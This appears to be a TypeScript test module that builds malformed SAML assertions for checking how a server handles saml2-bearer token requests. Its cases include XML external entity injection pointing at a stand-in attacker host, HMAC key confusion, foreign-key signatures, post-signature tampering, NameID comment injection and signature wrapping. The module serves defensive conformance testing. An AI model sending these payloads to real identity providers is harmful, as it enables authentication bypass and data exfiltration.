import { assertionXml } from '../../identity-providers/saml/assertion.ts';
import { namespaces } from '../../identity-providers/saml/names.ts';
import { responseXml } from '../../identity-providers/saml/response.ts';
import { newId, signedAssertion, signedWithRemainder, signXml } from '../../identity-providers/saml/sign.ts';
import { secondsNow } from '../../keys/clock.ts';
import type { KeyReference } from '../../keys/key-pair.ts';
import { currentRun } from '../../scenario/run.ts';
import { base64url, type SignedSaml, samlText } from '../token/assertion-under-test.ts';
import { trustedSamlProvider } from './saml-providers.ts';
import { wrappingForms } from './saml-wrapping-forms.ts';

/** Makes the value of `assertion` out of what would have been a complete valid one. */
export type SamlForm = (own: SignedSaml, baseUrl: string) => Promise<string>;

const foreignKey: KeyReference = { name: 'assay-saml-nobody', alg: 'RS256' };

/** What can be special about the assertion of a saml2-bearer request, by the words of feature files. */
export const samlForms: Readonly<Record<string, SamlForm>> = {
  'an assertion of SAML 1.0': async ({ assertion, signer }) => {
    const id = newId();
    const xml = assertionXml(assertion, id, secondsNow());
    const other = xml.replaceAll(namespaces.assertion, 'urn:oasis:names:tc:SAML:1.0:assertion');
    return base64url(await signXml(other, id, signer));
  },
  'an assertion without the padding that it would need': async ({ assertion, signer }) =>
    base64url(await signedWithRemainder(assertion, signer, secondsNow(), 1)),
  'an assertion with padding': async ({ assertion, signer }) => {
    const value = base64url(await signedWithRemainder(assertion, signer, secondsNow(), 1));
    return value.padEnd(Math.ceil(value.length / 4) * 4, '=');
  },
  'an assertion in a Response': async ({ assertion, signer }) => {
    const xml = await signedAssertion(assertion, signer, secondsNow());
    return base64url(
      responseXml({ assertion: xml, id: newId(), issuer: assertion.issuer ?? '' }, secondsNow()),
    );
  },
  'an assertion that is not signed': async ({ assertion }) =>
    base64url(assertionXml(assertion, newId(), secondsNow())),
  'an assertion signed by an unknown key': signedBy(async () => ({ key: foreignKey })),
  'an assertion with the certificate of its foreign key': signedBy(async () => ({
    key: foreignKey,
    withCertificate: true,
  })),
  'an assertion signed by the key of another provider': signedBy(async () => {
    const { provider } = await trustedSamlProvider(currentRun(), 'saml-second');
    return { key: provider.key };
  }),
  'an assertion signed with HMAC under the public key of its issuer': signedBy(async ({ signer }) => ({
    ...signer,
    hmac: true,
  })),
  'an assertion that was changed after it was signed': text((xml) =>
    xml.replace(/(<saml:NameID>)([^<]*)/, '$1$2x'),
  ),
  'an assertion with a document type and an external entity': text(
    (xml) => `<!DOCTYPE saml [<!ENTITY assay SYSTEM "https://attacker.assay.example/entity">]>${xml}`,
  ),
  'an assertion with a comment in its NameID': text((xml) =>
    xml.replace(/(<saml:NameID>[^<]*)(-[^<-]*<)/, '$1<!-- assay -->$2'),
  ),
  ...wrappingForms,
};

/** The same is signed by somebody else. */
function signedBy(change: (own: SignedSaml) => Promise<SignedSaml['signer']>): SamlForm {
  return async (own) => base64url(await samlText({ ...own, signer: await change(own) }));
}

/** The text is changed once it is signed. */
function text(change: (xml: string) => string): SamlForm {
  return async (own) => base64url(change(await samlText(own)));
}
